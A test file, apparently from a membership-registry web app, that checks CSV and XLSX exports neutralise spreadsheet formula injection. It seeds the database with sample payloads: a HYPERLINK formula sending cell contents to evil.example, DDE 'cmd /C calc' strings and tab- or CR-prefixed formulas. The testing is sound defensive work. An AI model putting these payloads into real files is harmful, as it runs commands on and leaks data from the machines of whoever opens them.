// Formula injection (issue 11, item 14): whatever the database holds — typed by a user, loaded from a file
// or left from older versions — no exported cell starts like a formula, in any column of any export.
// A phone in the canonical +7XXXXXXXXXX form is the one text that legitimately starts with '+': it stays a
// text cell in XLSX (a text cell is never evaluated) and is written as '+7… in CSV (README).
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { runNextExportJob } from '../../src/exports/export-jobs';
import { useTestApp } from '../support/app';
import { loggedInAgent, type Agent } from '../support/agents';
import { createMembers, createOrg, createRegionTree, createUser, unionRoot } from '../support/factories';
import { binaryParser } from '../support/xlsx';

const exportDir = fs.mkdtempSync(path.join(os.tmpdir(), 'reestr-export-formulas-'));
const ctx = useTestApp({ EXPORT_DIR: exportDir });
const db = () => ctx.database.ownerDb;

/** The starts that make Excel or LibreOffice read a cell as a formula (tab and CR are skipped by some). */
const FORMULA_START = /^[=+\-@\t\r]/;
const PHONE = '+79001234567';
const PAYLOADS = [
  '=HYPERLINK("http://evil.example/"&A1,"x")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
/** Valid e-mails under the card's validation can start with '+' or '-'. */
const EMAILS = [
  '+cmd@example.ru',
  '-2+3@example.ru',
  '=1+1@example.ru',
  '@x@example.ru',
  '\t=1@example.ru',
  '\r=1@example.ru',
];

let tree: Awaited<ReturnType<typeof createRegionTree>>;
let admin: { agent: Agent; csrf: string };

beforeAll(async () => {
  tree = await createRegionTree(db(), 16);
  admin = await loggedInAgent(ctx.app, await createUser(db(), [{ role: 'admin', org: await unionRoot(db()) }]));
  const hostile = await createOrg(db(), tree.territory, 'primary', { name: PAYLOADS[0] });
  await db()('organizations').where({ id: hostile.id }).update({
    short_name: PAYLOADS[1],
    address: PAYLOADS[2],
    phone: PAYLOADS[3],
    email: EMAILS[1],
    website: PAYLOADS[4],
  });
  await db()('organizations').where({ id: tree.primary.id }).update({ phone: PHONE, email: EMAILS[0] });
  await db()('org_officers').insert({
    organization_id: hostile.id,
    post: 'chair',
    surname: PAYLOADS[5],
    name: PAYLOADS[1],
    patronymic: PAYLOADS[2],
    elected_on: '2020-01-10',
    term_until: '2030-01-10',
  });
  for (const [i, payload] of PAYLOADS.entries()) {
    const next = PAYLOADS[(i + 1) % PAYLOADS.length]!;
    await createMembers(db(), i % 2 ? hostile : tree.primary, 1, {
      surname: payload,
      name: next,
      patronymic: payload,
      position: next,
      email: EMAILS[i],
      phone: i === 0 ? PHONE : payload,
    });
  }
});

const download = (url: string) => admin.agent.get(url).buffer(true).parse(binaryParser).expect(200);

function csvProblems(body: Buffer): string[] {
  const rows: string[][] = parse(body.toString('utf8'), { delimiter: ';', bom: true, relax_column_count: true });
  expect(rows.length).toBeGreaterThan(PAYLOADS.length);
  const problems = rows
    .flat()
    .filter((field) => FORMULA_START.test(field))
    .map((f) => JSON.stringify(f));
  if (!rows.flat().includes(`'${PHONE}`)) problems.push(`the phone is not written as '${PHONE}`);
  return problems;
}

async function xlsxProblems(body: Buffer, { phones = true } = {}): Promise<string[]> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(body as unknown as ExcelJS.Buffer);
  const problems: string[] = [];
  let phoneSeen = false;
  for (const sheet of workbook.worksheets) {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.type === ExcelJS.ValueType.Formula) problems.push(`${sheet.name}!${cell.address}: a formula`);
        if (typeof cell.value !== 'string') return;
        if (cell.value === PHONE) phoneSeen = true;
        else if (FORMULA_START.test(cell.value))
          problems.push(`${sheet.name}!${cell.address}: ${JSON.stringify(cell.value)}`);
      }),
    );
  }
  if (phones && !phoneSeen) problems.push(`the phone ${PHONE} is not a text cell as it is`);
  return problems;
}

describe('every export neutralises formulas in every column', () => {
  it("when the member list is downloaded as CSV, then no field starts like a formula and the phone is '+7…", async () => {
    expect(csvProblems((await download(`/orgs/${tree.territory.inpo}/members/export.csv?status=all`)).body)).toEqual(
      [],
    );
  });

  it('when the member list is downloaded as XLSX, then no text cell starts like a formula and the phone is a text cell', async () => {
    expect(
      await xlsxProblems((await download(`/orgs/${tree.territory.inpo}/members/export.xlsx?status=all`)).body),
    ).toEqual([]);
  });

  it('when the organizations are downloaded, then neither names, contacts nor the chair start like a formula', async () => {
    expect(await xlsxProblems((await download(`/orgs/${tree.territory.inpo}/export.xlsx`)).body)).toEqual([]);
  });

  it('when reports are downloaded (lines with a sheet per child, and a list form), then no cell starts like a formula', async () => {
    expect(
      await xlsxProblems((await download(`/reports/2-SP/${tree.territory.inpo}/2026-04-01.xlsx?children=1`)).body, {
        phones: false,
      }),
    ).toEqual([]);
    expect(
      await xlsxProblems((await download(`/reports/KDKO/${tree.territory.inpo}/2026-01-01.xlsx`)).body, {
        phones: false,
      }),
    ).toEqual([]);
  });

  it('when a background export job writes the file, then CSV and XLSX alike are neutralised', async () => {
    for (const format of ['csv', 'xlsx'] as const) {
      const queued = await admin.agent
        .post(`/orgs/${tree.territory.inpo}/members/export-jobs`)
        .type('form')
        .send({ _csrf: admin.csrf, format, status: 'all' })
        .expect(303);
      expect(await runNextExportJob(ctx.deps.db, exportDir, ctx.deps.logger)).toBe(true);
      const file = (await download(`${queued.headers.location}/download`)).body;
      expect(format === 'csv' ? csvProblems(file) : await xlsxProblems(file)).toEqual([]);
    }
  });
});

describe('neutralised exports load back', () => {
  it('when a CSV export with a phone and an e-mail that start like formulas is imported again, then both are read as they were', async () => {
    const org = await createOrg(db(), tree.territory, 'primary');
    await createMembers(db(), org, 1, { surname: 'Возвратова', phone: PHONE, email: EMAILS[1] });
    const csv = (await download(`/orgs/${org.inpo}/members/export.csv`)).body;
    expect(csv.toString('utf8')).toContain(`"'${PHONE}";"'${EMAILS[1]}"`);
    const res = await admin.agent
      .post(`/orgs/${org.inpo}/members/import?_csrf=${encodeURIComponent(admin.csrf)}`)
      .field('mode', 'check')
      .attach('file', csv, 'back.csv');
    expect(res.status, res.text.match(/<table[\s\S]*?<\/table>/)?.[0]).toBe(200);
    expect(res.text).toContain('Уже в реестре: 1.');
  });
});
